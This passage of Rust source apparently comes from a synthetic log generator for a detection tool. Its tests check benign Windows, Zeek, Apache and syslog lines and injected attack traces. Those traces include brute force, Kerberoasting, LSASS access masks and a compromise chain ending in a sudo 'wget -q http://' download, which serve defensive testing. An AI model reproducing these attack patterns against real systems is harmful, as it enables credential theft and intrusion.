    Proc { image: br"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", command_line: br#"\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --profile-directory=Default"#, parent: EXPLORER, parent_command_line: br"C:\\Windows\\Explorer.EXE", system: false },
    Proc { image: br"C:\\Windows\\System32\\RuntimeBroker.exe", command_line: br"C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", parent: br"C:\\Windows\\System32\\svchost.exe", parent_command_line: br"C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", system: false },
    Proc { image: br"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", command_line: br#"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\""#, parent: EXPLORER, parent_command_line: br"C:\\Windows\\Explorer.EXE", system: false },
    Proc { image: br"C:\\Windows\\System32\\taskhostw.exe", command_line: br"taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", parent: br"C:\\Windows\\System32\\svchost.exe", parent_command_line: br"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", system: false },
    Proc { image: br"C:\\Windows\\System32\\SearchProtocolHost.exe", command_line: br#"\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe5_ Global\\UsGthrCtrlFltPipeMssGthrPipe5 1 -2147483646 \"Software\\Microsoft\\Windows Search\""#, parent: br"C:\\Windows\\System32\\SearchIndexer.exe", parent_command_line: br"C:\\Windows\\system32\\SearchIndexer.exe /Embedding", system: true },
    Proc { image: br"C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", command_line: br#"\"C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --process-start-args \"--system-initiated\""#, parent: EXPLORER, parent_command_line: br"C:\\Windows\\Explorer.EXE", system: false },
    Proc { image: br"C:\\Windows\\System32\\backgroundTaskHost.exe", command_line: br#"\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca"#, parent: br"C:\\Windows\\System32\\svchost.exe", parent_command_line: br"C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", system: false },
    Proc { image: br"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", command_line: br#"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" /dde"#, parent: EXPLORER, parent_command_line: br"C:\\Windows\\Explorer.EXE", system: false },
    Proc { image: br"C:\\Windows\\System32\\dllhost.exe", command_line: br"C:\\Windows\\system32\\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}", parent: br"C:\\Windows\\System32\\svchost.exe", parent_command_line: br"C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", system: false },
    Proc { image: br"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", command_line: br#"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n"#, parent: EXPLORER, parent_command_line: br"C:\\Windows\\Explorer.EXE", system: false },
    Proc { image: br"C:\\Windows\\System32\\notepad.exe", command_line: br#"\"C:\\Windows\\system32\\notepad.exe\""#, parent: EXPLORER, parent_command_line: br"C:\\Windows\\Explorer.EXE", system: false },
    Proc { image: br"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe", command_line: br#"\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background"#, parent: EXPLORER, parent_command_line: br"C:\\Windows\\Explorer.EXE", system: false },
    Proc { image: br"C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", command_line: br"C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", parent: br"C:\\Windows\\System32\\svchost.exe", parent_command_line: br"C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", system: true },
    Proc { image: br"C:\\Program Files\\Git\\cmd\\git.exe", command_line: br"git fetch --all --prune", parent: br"C:\\Program Files\\Microsoft VS Code\\Code.exe", parent_command_line: br#"\"C:\\Program Files\\Microsoft VS Code\\Code.exe\""#, system: false },
    Proc { image: br"C:\\Windows\\System32\\MpCmdRun.exe", command_line: br#"\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MpCmdRun.exe\" SignatureUpdate -ScheduleJob"#, parent: br"C:\\Windows\\System32\\svchost.exe", parent_command_line: br"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", system: true },
];

/// Indexes of [`PROCS`] entries that are services, the only launches on servers.
const SERVER_PROCS: &[usize] = &[0, 2, 7, 15, 17];

const NET_IMAGES: &[&[u8]] = &[
    br"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    br"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    br"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
    br"C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
    br"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe",
    br"C:\\Windows\\System32\\svchost.exe",
];

/// A benign cross-process access (Sysmon 10), chosen to stay clear of credential-theft rules.
struct Access {
    source: &'static [u8],
    target: &'static [u8],
    granted: &'static [u8],
    user_target: bool,
}

const ACCESSES: &[Access] = &[
    Access { source: br"C:\\Windows\\system32\\svchost.exe", target: br"C:\\Windows\\system32\\lsass.exe", granted: b"0x1000", user_target: false },
    Access { source: br"C:\\Windows\\system32\\csrss.exe", target: br"C:\\Windows\\explorer.exe", granted: b"0x1fffff", user_target: true },
    Access { source: br"C:\\Windows\\system32\\wbem\\wmiprvse.exe", target: br"C:\\Windows\\system32\\svchost.exe", granted: b"0x1400", user_target: false },
    Access {
        source: br"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MsMpEng.exe",
        target: br"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        granted: b"0x101541",
        user_target: true,
    },
    Access { source: br"C:\\Windows\\system32\\taskmgr.exe", target: br"C:\\Windows\\explorer.exe", granted: b"0x1400", user_target: true },
];

const TCP_HISTORIES: &[&[u8]] = &[b"ShADadFf", b"ShADadfF", b"ShADdaFf", b"ShADadFRf"];

const TICKET_OPTIONS: &[&[u8]] = &[b"0x40810000", b"0x40810000", b"0x40810000", b"0x60810010", b"0x40800000"];

const SERVICE_ACCOUNTS: &[&[u8]] = &[b"svc_sql", b"svc_web", b"svc_backup", b"svc_sharepoint", b"svc_jenkins", b"svc_reporting"];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::Event;
    use crate::parse::{new_parser, Outcome, ParseOptions};
    use std::collections::{BTreeMap, HashSet};

    fn cfg(format: GenFormat, events: u64, seed: u64) -> GeneratorConfig {
        GeneratorConfig { seed, events, format, ..GeneratorConfig::default() }
    }

    fn generate(cfg: &GeneratorConfig) -> Vec<u8> {
        let mut out = Vec::new();
        let n = write_all(cfg, &mut out).unwrap();
        assert_eq!(n, cfg.events);
        out
    }

    fn lines(bytes: &[u8]) -> impl Iterator<Item = &[u8]> {
        bytes.split(|&b| b == b'\n').filter(|l| !l.is_empty())
    }

    fn opts(cfg: &GeneratorConfig) -> ParseOptions {
        ParseOptions { year: Some(cfg.year()), ..ParseOptions::default() }
    }

    /// Parses every line with the format's parser: (events, errors with their first examples).
    fn parse_all(format: GenFormat, cfg: &GeneratorConfig, bytes: &[u8]) -> (Vec<Event>, usize, Vec<String>) {
        let mut parser = new_parser(format.parser_format().unwrap(), &opts(cfg));
        let mut events = Vec::new();
        let mut errors = 0;
        let mut examples = Vec::new();
        for line in lines(bytes) {
            match parser.parse(line, &mut events) {
                Ok(Outcome::Events(n)) => assert_eq!(n, 1, "{}", String::from_utf8_lossy(line)),
                Ok(Outcome::Skipped) => assert!(line.starts_with(b"#"), "skipped a record: {}", String::from_utf8_lossy(line)),
                Err(e) => {
                    errors += 1;
                    if examples.len() < 3 {
                        examples.push(format!("{e}: {}", String::from_utf8_lossy(line)));
                    }
                }
            }
        }
        (events, errors, examples)
    }

    fn check_parses(format: GenFormat) {
        let cfg = cfg(format, 20_000, 7);
        let bytes = generate(&cfg);
        let (events, errors, examples) = parse_all(format, &cfg, &bytes);
        assert_eq!(errors, 0, "{format:?}: {examples:#?}");
        assert_eq!(events.len() as u64, cfg.events);
        let end = cfg.start_ms + (cfg.events as f64 / cfg.rate_per_sec * 1000.0 * 1.1) as i64;
        let mut last = i64::MIN;
        for ev in &events {
            assert!(ev.ts >= cfg.start_ms && ev.ts <= end, "{format:?}: ts {} outside [{}, {end}]", ev.ts, cfg.start_ms);
            assert!(ev.ts >= last, "{format:?}: ts went back from {last} to {}", ev.ts);
            last = ev.ts;
        }
    }

    #[test]
    fn syslog_lines_parse() {
        check_parses(GenFormat::Syslog);
    }

    #[test]
    fn apache_lines_parse() {
        check_parses(GenFormat::Apache);
    }

    #[test]
    fn zeek_json_lines_parse() {
        check_parses(GenFormat::Zeek);
    }

    #[test]
    fn zeek_tsv_lines_parse() {
        check_parses(GenFormat::ZeekTsv);
    }

    #[test]
    fn windows_lines_parse() {
        check_parses(GenFormat::Windows);
    }

    #[test]
    fn mixed_split_files_parse() {
        let cfg = cfg(GenFormat::Mixed, 20_000, 11);
        let dir = tempfile::tempdir().unwrap();
        let files = write_split(&cfg, dir.path()).unwrap();
        let names: Vec<_> = files.iter().map(|(p, _)| p.file_name().unwrap().to_string_lossy().into_owned()).collect();
        assert_eq!(names, ["sshd.log", "access.log", "conn.log", "windows.json"]);
        assert_eq!(files.iter().map(|(_, n)| n).sum::<u64>(), cfg.events);
        for ((path, count), format) in files.iter().zip(MIXED_PARTS) {
            assert!(*count > cfg.events / 10, "{path:?} has only {count}");
            let bytes = std::fs::read(path).unwrap();
            assert_eq!(lines(&bytes).count() as u64, *count);
            let (events, errors, examples) = parse_all(format, &cfg, &bytes);
            assert_eq!(errors, 0, "{path:?}: {examples:#?}");
            assert_eq!(events.len() as u64, *count);
        }
    }

    #[test]
    fn same_seed_same_bytes() {
        for format in [GenFormat::Syslog, GenFormat::Apache, GenFormat::Zeek, GenFormat::ZeekTsv, GenFormat::Windows, GenFormat::Mixed] {
            let a = generate(&cfg(format, 3_000, 42));
            let b = generate(&cfg(format, 3_000, 42));
            let c = generate(&cfg(format, 3_000, 43));
            assert!(a == b, "{format:?} is not deterministic");
            assert!(a != c, "{format:?} ignores the seed");
        }
        // The line API and write_all agree, and a Mixed stream names each line's format.
        let config = cfg(GenFormat::Mixed, 2_000, 42);
        let mut generator = Generator::new(config.clone());
        let mut out = Vec::new();
        let mut seen = HashSet::new();
        while let Some(format) = generator.next_line(&mut out) {
            assert!(MIXED_PARTS.contains(&format));
            seen.insert(format);
        }
        assert_eq!(seen.len(), 4);
        assert_eq!(generator.emitted(), 2_000);
        assert!(out == generate(&config));
    }

    #[test]
    fn zero_events_is_empty() {
        assert!(generate(&cfg(GenFormat::ZeekTsv, 0, 1)).is_empty());
        assert!(generate(&cfg(GenFormat::Mixed, 0, 1)).is_empty());
    }

    #[test]
    fn zeek_tsv_has_header_and_close() {
        let bytes = generate(&cfg(GenFormat::ZeekTsv, 10, 1));
        let text = String::from_utf8(bytes).unwrap();
        let all: Vec<&str> = text.lines().collect();
        assert_eq!(all[0], "#separator \\x09");
        assert_eq!(all[4], "#path\tconn");
        assert_eq!(all[5], "#open\t2024-01-15-08-00-00");
        let fields: Vec<&str> = all[6].split('\t').collect();
        let types: Vec<&str> = all[7].split('\t').collect();
        assert_eq!(fields[0], "#fields");
        assert_eq!(types[0], "#types");
        assert_eq!(fields.len(), types.len());
        for record in &all[8..all.len() - 1] {
            assert_eq!(record.split('\t').count(), fields.len() - 1, "{record}");
        }
        assert!(all[all.len() - 1].starts_with("#close\t2024-01-15-08-00-0"));
        assert_eq!(all.len(), 8 + 10 + 1);
    }

    /// Checks the JSON lines with serde_json, independently of vigil's own parsers.
    #[test]
    fn json_lines_are_valid_and_realistic() {
        let mut windows_ids = BTreeMap::new();
        let mut rc4 = 0;
        let bytes = generate(&cfg(GenFormat::Windows, 20_000, 3));
        let mut total = 0;
        for line in lines(&bytes) {
            total += line.len();
            let v: serde_json::Value = serde_json::from_slice(line).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(line)));
            assert!(v["@timestamp"].as_str().is_some_and(|t| t.starts_with("2024-01-15T08:") && t.ends_with('Z')));
            assert!(v["Hostname"].as_str().unwrap().ends_with(".corp.example.com"));
            let id = v["EventID"].as_u64().unwrap();
            *windows_ids.entry(id).or_insert(0) += 1;
            if id == 4769 && v["TicketEncryptionType"] == "0x17" {
                rc4 += 1;
            }
            if id == 4624 || id == 4625 {
                assert!(v["LogonType"].as_str().is_some() && v["TargetUserName"].as_str().is_some() && v["IpAddress"].as_str().is_some());
            }
            if id == 1 || id == 4688 {
                assert!(v["CommandLine"].as_str().unwrap().len() > 5);
            }
            if id == 10 {
                assert!(v["TargetImage"].as_str().unwrap().starts_with("C:\\"));
            }
        }
        let avg = total / 20_000;
        // Flat NXLog-style events without the rendered `Message`: 300 to 800 bytes each.
        assert!((400..800).contains(&avg), "windows average line {avg} bytes");
        assert_eq!(windows_ids.keys().copied().collect::<Vec<_>>(), [1, 3, 10, 4624, 4625, 4688, 4769]);
        assert!(rc4 > 0 && rc4 < windows_ids[&4769] / 10, "{rc4} RC4 tickets");

        let bytes = generate(&cfg(GenFormat::Zeek, 20_000, 3));
        let mut total = 0;
        let mut states = HashSet::new();
        for line in lines(&bytes) {
            total += line.len();
            let v: serde_json::Value = serde_json::from_slice(line).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(line)));
            assert!(v["ts"].as_f64().unwrap() >= 1_705_305_600.0);
            assert_eq!(v["uid"].as_str().unwrap().len(), 18);
            assert!(v["id.orig_h"].as_str().unwrap().parse::<std::net::Ipv4Addr>().is_ok());
            assert!(v["id.resp_p"].as_u64().is_some());
            states.insert(v["conn_state"].as_str().unwrap().to_string());
        }
        let avg = total / 20_000;
        assert!((200..400).contains(&avg), "zeek average line {avg} bytes");
        for state in ["SF", "S0", "REJ", "OTH", "RSTO", "RSTR", "S1"] {
            assert!(states.contains(state), "no {state}");
        }
    }

    #[test]
    fn apache_lines_look_like_access_logs() {
        let bytes = generate(&cfg(GenFormat::Apache, 5_000, 5));
        let mut statuses = HashSet::new();
        for line in lines(&bytes) {
            assert!(crate::parse::apache::looks_like_access_log(line), "{}", String::from_utf8_lossy(line));
            let text = std::str::from_utf8(line).unwrap();
            statuses.insert(text.split("\" ").nth(1).unwrap()[..3].to_string());
        }
        for status in ["200", "304", "404", "500"] {
            assert!(statuses.contains(status), "no {status}");
        }
    }

    /// Event time of a generated line, read without vigil's parsers.
    fn line_ts(format: GenFormat, line: &[u8], year: i32) -> Option<i64> {
        let text = std::str::from_utf8(line).ok()?;
        match format {
            GenFormat::Syslog => {
                let month = time::month_from_abbrev(&line[..3])?;
                let day: u32 = text[4..6].trim().parse().ok()?;
                let (h, m, s) = (time::digits(line, 7, 2)?, time::digits(line, 10, 2)?, time::digits(line, 13, 2)?);
                time::from_civil(year as i64, month, day, h, m, s, 0)
            }
            GenFormat::Apache => time::parse_clf(&line[text.find('[')? + 1..text.find(']')?]),
            GenFormat::Zeek => time::parse_epoch_seconds(&line[6..text.find(',')?]),
            GenFormat::ZeekTsv => time::parse_epoch_seconds(&line[..text.find('\t')?]),
            GenFormat::Windows => time::parse_iso8601(&line[15..39]),
            GenFormat::Mixed => None,
        }
    }

    #[test]
    fn timestamps_are_non_decreasing() {
        for format in [GenFormat::Syslog, GenFormat::Apache, GenFormat::Zeek, GenFormat::ZeekTsv, GenFormat::Windows] {
            let config = GeneratorConfig { rate_per_sec: 500.0, ..cfg(format, 10_000, 9) };
            let bytes = generate(&config);
            let mut last = i64::MIN;
            let mut first = None;
            for line in lines(&bytes).filter(|l| !l.starts_with(b"#")) {
                let ts = line_ts(format, line, config.year()).unwrap_or_else(|| panic!("{format:?}: {}", String::from_utf8_lossy(line)));
                assert!(ts >= last, "{format:?}: {ts} after {last}");
                first.get_or_insert(ts);
                last = ts;
            }
            assert_eq!(first, Some(config.start_ms));
            // 10,000 records at 500/s span about 20 s of event time.
            let span = last - config.start_ms;
            assert!((18_000..=22_000).contains(&span), "{format:?}: span {span} ms");
        }
    }

    #[test]
    fn many_distinct_entities_with_skew() {
        let bytes = generate(&cfg(GenFormat::Apache, 50_000, 2));
        let mut per_client: BTreeMap<&[u8], u64> = BTreeMap::new();
        for line in lines(&bytes) {
            *per_client.entry(line.split(|&b| b == b' ').next().unwrap()).or_default() += 1;
        }
        let busiest = per_client.values().max().copied().unwrap();
        assert!(per_client.len() > 3_000, "only {} clients", per_client.len());
        assert!(busiest > 1_000, "no heavy hitter: busiest client has {busiest} requests");

        let bytes = generate(&cfg(GenFormat::Windows, 50_000, 2));
        let mut users = HashSet::new();
        let mut hosts = HashSet::new();
        for line in lines(&bytes) {
            let v: serde_json::Value = serde_json::from_slice(line).unwrap();
            for key in ["TargetUserName", "SubjectUserName"] {
                if let Some(u) = v[key].as_str() {
                    users.insert(u.to_string());
                }
            }
            hosts.insert(v["Hostname"].as_str().unwrap().to_string());
        }
        assert!(users.len() > 2_000, "only {} users", users.len());
        assert!(hosts.len() > 2_000, "only {} hosts", hosts.len());

        let bytes = generate(&cfg(GenFormat::Syslog, 20_000, 2));
        let hosts: HashSet<&[u8]> = lines(&bytes).map(|l| l[16..].split(|&b| b == b' ').next().unwrap()).collect();
        assert!(hosts.len() >= 20, "only {} syslog hosts", hosts.len());
    }

    #[test]
    fn entity_population_follows_config() {
        let few = GeneratorConfig { entities: 10, ..cfg(GenFormat::Windows, 5_000, 2) };
        let bytes = generate(&few);
        let mut users = HashSet::new();
        for line in lines(&bytes) {
            let v: serde_json::Value = serde_json::from_slice(line).unwrap();
            if let Some(u) = v["TargetUserName"].as_str().filter(|u| u.contains('.')) {
                users.insert(u.split('@').next().unwrap().to_string());
            }
        }
        assert!(users.len() <= 10, "{users:?}");
        assert_eq!(GeneratorConfig::default().year(), 2024);
        assert_eq!(time::from_civil(2024, 1, 15, 8, 0, 0, 0), Some(DEFAULT_START_MS));
    }

    #[test]
    fn sniffing_recognizes_each_format() {
        for format in [GenFormat::Syslog, GenFormat::Apache, GenFormat::Zeek, GenFormat::ZeekTsv, GenFormat::Windows] {
            let bytes = generate(&cfg(format, 50, 4));
            assert_eq!(crate::parse::sniff(&bytes), format.parser_format(), "{format:?}");
        }
    }

    #[test]
    fn tables_are_consistent() {
        assert!(SERVER_PROCS.iter().all(|&i| PROCS[i].system));
        assert!(USER_AGENTS[..BROWSERS].iter().all(|ua| ua.starts_with(b"Mozilla/5.0 (") && !ua.windows(3).any(|w| w == b"bot")));
        assert!(WINDOWS_ROLES.iter().chain(LINUX_ROLES).all(|&r| (r as usize) < ROLES.len()));
        assert_eq!(WINDOWS_ROLES.len() + LINUX_ROLES.len(), ROLES.len());
    }

    #[test]
    fn skew_is_in_range_and_heavy_headed() {
        let mut rng = SmallRng::seed_from_u64(1);
        let mut counts = vec![0u32; 1000];
        for _ in 0..100_000 {
            counts[skewed(&mut rng, 1000) as usize] += 1;
        }
        assert!(counts[0] > counts[10] && counts[10] > counts[500]);
        assert!(counts.iter().filter(|&&c| c > 0).count() > 900);
        assert_eq!(skewed(&mut rng, 1), 0);
        assert_eq!(skewed(&mut rng, 0), 0);
    }

    /// Prints generator throughput (`cargo test --release --lib io::generator -- --ignored --nocapture`).
    #[test]
    #[ignore = "timing"]
    fn throughput() {
        for format in [GenFormat::Syslog, GenFormat::Apache, GenFormat::Zeek, GenFormat::ZeekTsv, GenFormat::Windows, GenFormat::Mixed] {
            let mut generator = Generator::new(cfg(format, 2_000_000, 1));
            let mut buf = Vec::with_capacity(1 << 20);
            let start = std::time::Instant::now();
            let (mut lines, mut bytes) = (0u64, 0u64);
            while generator.next_line(&mut buf).is_some() {
                lines += 1;
                if buf.len() > 1 << 19 {
                    bytes += buf.len() as u64;
                    buf.clear();
                }
            }
            bytes += buf.len() as u64;
            let secs = start.elapsed().as_secs_f64();
            eprintln!(
                "{:>8}: {:>6.2} M lines/s, {:>5.0} MB/s, {:>3} B/line",
                format.name(),
                lines as f64 / secs / 1e6,
                bytes as f64 / secs / 1e6,
                bytes / lines
            );
        }
    }
}

/// Injected attacks: their lines, ground truth, and the default rule set (`topologies/rules`)
/// against them and against the background.
#[cfg(test)]
mod injection_tests {
    use super::*;
    use crate::event::field::intern;
    use crate::event::Event;
    use crate::parse::{new_parser, ParseOptions};
    use crate::rules::yaml::Node;
    use crate::rules::{document, RuleSet, SigmaDocument};
    use std::collections::{BTreeMap, BTreeSet, HashMap, HashSet};

    /// A field's value as text.
    fn text(ev: &Event, name: &str) -> Option<String> {
        let id = intern(name)?;
        crate::rules::pattern::with_text(ev.get(id)?, str::to_string)
    }

    /// Parses `bytes` (one format) line by line: every event, and whether its line mentions `needle`.
    fn parse(format: GenFormat, cfg: &GeneratorConfig, bytes: &[u8], needle: &[u8]) -> Vec<(Event, bool)> {
        let opts = ParseOptions { year: Some(cfg.year()), ..ParseOptions::default() };
        let mut parser = new_parser(format.parser_format().unwrap(), &opts);
        let mut out = Vec::new();
        for line in bytes.split(|&b| b == b'\n').filter(|l| !l.is_empty()) {
            let mut events = Vec::new();
            parser.parse(line, &mut events).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(line)));
            let hit = !needle.is_empty() && line.windows(needle.len()).any(|w| w == needle);
            out.extend(events.into_iter().map(|ev| (ev, hit)));
        }
        out
    }

    /// A single-format stream holding `injection` (started 5 s in), long enough to finish it;
    /// the rate is lowered for long scenarios so the stream stays near 60,000 lines.
    fn attack_config(injection: Injection, seed: u64) -> GeneratorConfig {
        let mut attack = injection.attack();
        attack.start_ms = 5_000;
        let injection = match injection {
            Injection::SshBruteForce(_) => Injection::SshBruteForce(attack),
            Injection::SshBruteForceSuccess(_) => Injection::SshBruteForceSuccess(attack),
            Injection::PasswordSpray(_) => Injection::PasswordSpray(attack),
            Injection::LowAndSlow(_) => Injection::LowAndSlow(attack),
            Injection::PamBruteForce(_) => Injection::PamBruteForce(attack),
            Injection::WebScan(_) => Injection::WebScan(attack),
            Injection::VerticalScan(_) => Injection::VerticalScan(attack),
            Injection::HorizontalScan(_) => Injection::HorizontalScan(attack),
            Injection::CompromiseChain(_) => Injection::CompromiseChain(attack),
            Injection::WindowsLogonFailures(_) => Injection::WindowsLogonFailures(attack),
            Injection::Kerberoasting(_) => Injection::Kerberoasting(attack),
            Injection::LateralMovement(_) => Injection::LateralMovement(attack),
            Injection::LsassAccess(_) => Injection::LsassAccess(attack),
        };
        let span_s = 10.0 + injection.lines() as f64 * attack.interval_ms as f64 / 1000.0;
        let rate = (60_000.0 / span_s).clamp(1.0, 2_000.0);
        GeneratorConfig {
            seed,
            events: (span_s * rate * 1.1) as u64 + 100,
            format: injection.format(),
            rate_per_sec: rate,
            injections: vec![injection],
            ..GeneratorConfig::default()
        }
    }

    /// The bytes by which an attack's lines can be found: its entity as the line writes it.
    fn needle(attack: &InjectedAttack) -> Vec<u8> {
        attack.entity.replace('\\', "\\\\").into_bytes()
    }

    struct AttackRun {
        cfg: GeneratorConfig,
        truth: InjectedAttack,
        /// Every event of the stream, marked when it is the attack's.
        events: Vec<(Event, bool)>,
    }

    fn run(injection: Injection) -> AttackRun {
        let cfg = attack_config(injection, 17);
        let truth = ground_truth(&cfg);
        assert_eq!(truth.len(), 1, "{injection:?}");
        let truth = truth.into_iter().next().unwrap();
        let mut bytes = Vec::new();
        write_all(&cfg, &mut bytes).unwrap();
        // The chain's sudo lines do not carry the address: find them by the account.
        let needle = if truth.kind == "compromise_chain" { attacker_account(0, "webadmin").into_bytes() } else { needle(&truth) };
        let events = parse(cfg.format, &cfg, &bytes, &needle);
        AttackRun { cfg, truth, events }
    }

    fn distinct(events: &[&Event], field: &str) -> BTreeSet<String> {
        events.iter().filter_map(|ev| text(ev, field)).collect()
    }

    #[test]
    fn injected_attacks_parse_with_their_properties_and_exact_ground_truth() {
        for injection in Injection::all() {
            let AttackRun { cfg, truth, events } = run(injection);
            let kind = injection.kind();
            let attack: Vec<&Event> = events.iter().filter(|(_, hit)| *hit).map(|(ev, _)| ev).collect();
            let count = injection.attack().count as usize;
            assert_eq!(truth.kind, kind);
            assert_eq!(truth.format, injection.format());
            assert_eq!(truth.lines, injection.lines(), "{kind}");
            assert_eq!(attack.len() as u64, truth.lines, "{kind}: lines found by entity");
            assert_eq!(attack.first().unwrap().ts, truth.start_ms, "{kind}");
            assert_eq!(attack.last().unwrap().ts, truth.end_ms, "{kind}");
            assert!(truth.start_ms >= cfg.start_ms + 5_000, "{kind}");
            let field = |ev: &Event, name: &str| text(ev, name).unwrap_or_else(|| panic!("{kind}: no {name}"));
            match injection {
                Injection::SshBruteForce(_) | Injection::SshBruteForceSuccess(_) | Injection::LowAndSlow(_) | Injection::PasswordSpray(_) => {
                    assert_eq!(distinct(&attack, "host.hostname").len(), 1, "{kind}");
                    assert!(attack.iter().all(|ev| field(ev, "source.ip") == truth.entity));
                    let (last, failures) = if matches!(injection, Injection::SshBruteForceSuccess(_)) {
                        (attack.len() - 1, &attack[..attack.len() - 1])
                    } else {
                        (attack.len(), &attack[..])
                    };
                    assert!(failures.iter().all(|ev| field(ev, "system.auth.ssh.event") == "Failed" && field(ev, "event.outcome") == "failure"));
                    if last < attack.len() {
                        assert_eq!(field(attack[last], "system.auth.ssh.event"), "Accepted");
                        assert_eq!(field(attack[last], "user.name"), "root");
                    }
                    match injection {
                        Injection::PasswordSpray(_) => {
                            let mut per_user: HashMap<String, usize> = HashMap::new();
                            for ev in &attack {
                                *per_user.entry(field(ev, "user.name")).or_default() += 1;
                            }
                            assert_eq!(per_user.len(), count, "{kind}: distinct users");
                            assert!(per_user.values().all(|&n| n <= 2));
                        }
                        Injection::LowAndSlow(_) => {
                            let mut per_hour: HashMap<i64, usize> = HashMap::new();
                            for ev in &attack {
                                *per_hour.entry((ev.ts - truth.start_ms) / 3_600_000).or_default() += 1;
                            }
                            assert!(per_hour.values().all(|&n| n <= 4), "{per_hour:?}");
                            assert!(truth.end_ms - truth.start_ms >= 8 * 3_600_000);
                            assert!(attack.iter().all(|ev| field(ev, "user.name") == "root"));
                        }
                        _ => assert!(failures.len() >= 30),
                    }
                }
                Injection::PamBruteForce(_) => {
                    assert!(attack.iter().all(|ev| field(ev, "event.action") == "pam_authentication_failure" && field(ev, "source.ip") == truth.entity));
                }
                Injection::CompromiseChain(_) => {
                    assert_eq!(field(attack[0], "system.auth.ssh.event"), "Accepted");
                    assert_eq!(field(attack[0], "source.ip"), truth.entity);
                    let user = field(attack[0], "user.name");
                    let host = field(attack[0], "host.hostname");
                    let chain: Vec<&Event> = events.iter().map(|(ev, _)| ev).filter(|ev| text(ev, "user.name").as_deref() == Some(user.as_str())).collect();
                    assert_eq!(chain.len(), count + 1);
                    assert_eq!(chain, attack);
                    assert!(chain[1..].iter().all(|ev| field(ev, "event.action") == "sudo_command" && field(ev, "host.hostname") == host));
                    assert!(field(chain[count], "system.auth.sudo.command").contains("wget -q http://"));
                    assert_eq!(chain[count].ts, truth.end_ms);
                }
                Injection::WebScan(_) => {
                    assert!(attack.iter().all(|ev| field(ev, "http.response.status_code") == "404"));
                    assert_eq!(distinct(&attack, "url.path").len(), count);
                }
                Injection::VerticalScan(_) | Injection::HorizontalScan(_) => {
                    let vertical = matches!(injection, Injection::VerticalScan(_));
                    assert_eq!(distinct(&attack, "destination.port").len(), if vertical { count } else { 1 }, "{kind}");
                    assert_eq!(distinct(&attack, "destination.ip").len(), if vertical { 1 } else { count }, "{kind}");
                    let states = distinct(&attack, "zeek.connection.state");
                    assert!(states.iter().all(|s| ["S0", "REJ", "RSTO"].contains(&s.as_str())), "{states:?}");
                    assert!(states.contains("S0") && states.contains("REJ"));
                }
                Injection::WindowsLogonFailures(_) => {
                    assert!(attack.iter().all(|ev| field(ev, "EventID") == "4625" && field(ev, "LogonType") == "3"));
                    assert_eq!(distinct(&attack, "TargetUserName").len(), count);
                    assert_eq!(distinct(&attack, "Hostname").len(), 1);
                }
                Injection::Kerberoasting(_) => {
                    assert!(attack.iter().all(|ev| field(ev, "EventID") == "4769" && field(ev, "TicketEncryptionType") == "0x17"));
                    assert_eq!(distinct(&attack, "ServiceName").len(), count.min(ROASTED_SERVICES.len()));
                    assert_eq!(distinct(&attack, "TargetUserName").len(), 1);
                }
                Injection::LateralMovement(_) => {
                    assert!(attack.iter().all(|ev| field(ev, "EventID") == "4624" && field(ev, "LogonType") == "3"));
                    assert_eq!(distinct(&attack, "Hostname").len(), count);
                }
                Injection::LsassAccess(_) => {
                    assert!(attack.iter().all(|ev| field(ev, "EventID") == "10" && field(ev, "TargetImage").ends_with("\\lsass.exe")));
                    assert!(attack.iter().all(|ev| field(ev, "SourceImage") == truth.entity));
                    assert_eq!(distinct(&attack, "GrantedAccess"), ["0x1010".to_string(), "0x1410".to_string()].into());
                }
            }
        }
    }

    #[test]
    fn injections_are_deterministic_and_ordered() {
        let cfg = GeneratorConfig { events: 800_000, injections: Injection::all(), ..GeneratorConfig::default() };
        let truth = ground_truth(&cfg);
        // All but the hours-long guessing finish within a default-length stream.
        assert_eq!(truth.len(), 13);
        for t in &truth {
            let injection = Injection::all().into_iter().find(|i| i.kind() == t.kind).unwrap();
            assert!(t.lines == injection.lines() || t.kind == "low_and_slow", "{t:?}");
        }
        assert_eq!(ground_truth(&cfg), truth);
        let entities: HashSet<&str> = truth.iter().map(|t| t.entity.as_str()).collect();
